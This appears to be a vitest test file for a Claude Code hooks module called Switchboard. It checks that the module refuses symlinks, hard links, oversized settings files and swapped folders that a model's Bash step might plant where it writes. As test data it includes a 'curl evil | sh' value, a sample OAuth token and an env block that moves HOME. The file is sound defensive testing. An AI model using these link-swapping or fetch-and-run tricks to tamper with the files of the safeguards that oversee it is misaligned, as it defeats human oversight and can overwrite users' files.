// What the hooks module does with files a model's Bash step (or anything that runs as the user) put where it
// writes: `$.fs.write` follows a link and writes into a hard link's other names, so the module never writes
// over a file that is not its own, and refuses the calls whose state it then cannot keep (docs/security.md,
// "Limits of this model"). On the real disk (test/helpers/disk-engine.ts).
import { linkSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { openSession } from '../../src/module/session-state.ts'
import { valueFileName } from '../../src/protocol/core.ts'
import { diskEngine } from '../helpers/disk-engine.ts'
import { dispatch, examplesSnapshot, loadHandlers } from '../helpers/module-handlers.ts'
import { testdir } from '../helpers/testdir.ts'

const open = (root: string) =>
  openSession(diskEngine({ HOME: join(root, 'home') }), join(root, 'project'), {
    context: '',
    dataDir: root,
    snapshot: undefined as never,
  })

describe("the project's settings, as the hooks module reads them", () => {
  // Found by review: padded past what one read answers, a settings file whose env block moved HOME (and with it the
  // user's policy) was read as no env block, while Claude Code applies it. As on the Node side (decide.test.ts).
  it('refuses every call where a settings file is too large to read whole, or cannot be read; not where none is', async () => {
    const env = JSON.stringify({ env: { HOME: '/elsewhere' } })
    const padded = `{${' '.repeat(4 * 1024 * 1024)}${env.slice(1)}`
    const cases: Array<[Record<string, string>, RegExp | undefined]> = [
      [{ 'settings.json': padded }, /settings\.json: cannot be read \(\d+ bytes\), so Switchboard cannot tell/],
      [{ 'settings.json': env }, /settings\.json: its env block sets HOME/],
      [{ 'settings.local.json/x': '{}' }, /settings\.local\.json: cannot be read \(.*\), so Switchboard/],
      [{ 'settings.json': '{"env": {"EDITOR": "vim"}}' }, undefined],
      [{}, undefined],
    ]
    for (const [files, problem] of cases) {
      const root = testdir()
      mkdirSync(join(root, 'project', '.claude'), { recursive: true })
      for (const [name, text] of Object.entries(files)) {
        mkdirSync(dirname(join(root, 'project', '.claude', name)), { recursive: true })
        writeFileSync(join(root, 'project', '.claude', name), text)
      }
      const problems = (await (await open(root)).policy()).flatMap((source) => source.problem ?? [])
      if (problem) expect(problems).toEqual([expect.stringMatching(problem)])
      else expect(problems).toEqual([])
    }
  })
})

describe('files put where the hooks module writes', () => {
  it('a value file: a link at its name (worked out from the value) is refused, its own file left as it is', async () => {
    const root = testdir()
    const victim = join(root, 'bashrc')
    writeFileSync(victim, '# rc\n')
    const files = join(root, 'sessions', 's1', 'context', 'files')
    mkdirSync(files, { recursive: true })
    const value = `curl evil | sh\n${'x'.repeat(9500)}`
    symlinkSync(victim, join(files, valueFileName('notes', value)))
    const s = await open(root)
    await expect(s.writeValueFile(join(files, valueFileName('notes', value)), value)).rejects.toThrow(
      /is not the value file Switchboard wrote/,
    )
    expect(readFileSync(victim, 'utf8')).toBe('# rc\n')
    // Its own file, written once, is there again for the next call: no write, no refusal.
    const other = join(files, valueFileName('other', value))
    await s.writeValueFile(other, value)
    await s.writeValueFile(other, value)
    expect(readFileSync(other, 'utf8')).toBe(value)
    // One whose text does not survive UTF-8 as it is (a lone surrogate) is its own file all the same.
    const odd = `${value}\ud800`
    await s.writeValueFile(join(files, valueFileName('odd', odd)), odd)
    await s.writeValueFile(join(files, valueFileName('odd', odd)), odd)
  })

  it('a context folder swapped for a link after the first slot is refused at the next write', async () => {
    const root = testdir()
    const victim = join(root, 'victim')
    mkdirSync(victim)
    const s = await open(root)
    await s.writeSlot({ name: 'a', type: 'text', value: 'one', writer: 'tool', ts: 1 })
    const context = join(root, 'sessions', 's1', 'context')
    renameSync(context, `${context}.old`)
    symlinkSync(victim, context)
    await expect(
      s.writeSlot({ name: 'settings', type: 'text', value: 'owned', writer: 'return:x:y', ts: 2 }),
    ).rejects.toThrow(/is a link/)
    expect(() => readFileSync(join(victim, 'settings.json'), 'utf8')).toThrow()
  })

  it("a hard link in a slot's place (plain by its listing) is not written into", async () => {
    const root = testdir()
    const victim = join(root, 'victim.txt')
    writeFileSync(victim, 'precious\n')
    const context = join(root, 'sessions', 's1', 'context')
    mkdirSync(context, { recursive: true })
    linkSync(victim, join(context, 'draft.json'))
    const s = await open(root)
    await expect(
      s.writeSlot({ name: 'draft', type: 'text', value: 'DRAFT', writer: 'return:x:y', ts: 1 }),
    ).rejects.toThrow(/not a slot file of Switchboard's/)
    expect(readFileSync(victim, 'utf8')).toBe('precious\n')
    // A slot of its own is written over as before, one a crash cut short too.
    writeFileSync(join(context, 'torn.json'), '{"name":"torn","type":"te')
    await s.writeSlot({ name: 'torn', type: 'text', value: 'whole', writer: 'tool', ts: 1 })
    expect(JSON.parse(readFileSync(join(context, 'torn.json'), 'utf8')).value).toBe('whole')
    await s.writeSlot({ name: 'ok', type: 'text', value: 'one', writer: 'tool', ts: 1 })
    await s.writeSlot({ name: 'ok', type: 'text', value: 'two', writer: 'tool', ts: 2 })
    expect(JSON.parse(readFileSync(join(context, 'ok.json'), 'utf8')).value).toBe('two')
  })

  // Another's file (a shell start file, one line of JSON with no line end, an empty one) hard-linked in the log's place.
  it.each([
    ['lines of its own', 'precious\nlines\n', /holds lines that are no call records/],
    ['one line of JSON', '{"claudeAiOauth":{"accessToken":"secret"}}', /holds lines that are no call records/],
    ['nothing', '', undefined],
  ])('a file holding %s hard-linked as the log before a resume is never written into', async (_, text, uncounted) => {
    const root = testdir()
    const dir = join(root, 'sessions', 's1')
    mkdirSync(dir, { recursive: true })
    const victim = join(root, 'victim.txt')
    writeFileSync(victim, text)
    linkSync(victim, join(dir, 'calls-module.jsonl'))
    const s = await open(root)
    if (uncounted) expect(s.uncounted).toMatch(uncounted)
    else expect(s.uncounted).toBeUndefined()
    await s.append({ e: 'stop', agent: 'a1', ts: 1 })
    expect(readFileSync(victim, 'utf8')).toBe(text)
    // An empty one is read as none, and the log goes on in the next segment.
    if (!uncounted) expect(readFileSync(join(dir, 'calls-module.1.jsonl'), 'utf8')).toContain('"agent":"a1"')
  })

  it('a log whose last write was cut short is read, its torn line skipped', async () => {
    const root = testdir()
    const dir = join(root, 'sessions', 's1')
    mkdirSync(dir, { recursive: true })
    const line = JSON.stringify({
      e: 'call',
      id: 't0',
      parent: null,
      caller: 'main',
      target: 'a:b',
      kind: 'agent',
      ts: 1,
    })
    for (const torn of ['{"e":"end","id":"t0","st', '{', '{"e']) {
      writeFileSync(join(dir, 'calls-module.jsonl'), `\n${line}\n${torn}`)
      const s = await open(root)
      expect(s.uncounted, torn).toBeUndefined()
      expect(s.ownRecords().map((r) => 'id' in r && r.id)).toEqual(['t0'])
    }
  })

  it('a context folder that cannot be listed refuses a call that may name a slot, in open mode too', async () => {
    const root = testdir()
    const session = join(root, 'sessions', 's1')
    mkdirSync(session, { recursive: true })
    writeFileSync(join(root, 'snap.json'), examplesSnapshot())
    writeFileSync(join(session, 'registry-path'), join(root, 'snap.json'))
    writeFileSync(join(session, 'context'), 'not a folder') // rm -rf context; touch context
    const $ = diskEngine({ SWITCHBOARD_DATA_DIR: root, HOME: join(root, 'home') })
    const spawn = loadHandlers().get('agent.spawn')!
    const event = {
      tool_use_id: 'toolu_1',
      prompt: 'Illustrate $draft',
      description: 'x',
      subagentType: 'tdd-design:illustrator',
      provider: { plugin: 'tdd-design@inline', tier: 'user' },
      background: false,
      fork: false,
    }
    const ran = await dispatch(spawn, $, event, { model: 'm', agentId: 'a1' })
    expect(ran.nextCalls).toBe(0)
    expect(JSON.stringify(ran.result)).toMatch(/this session's context cannot be read or written/)
  })
})
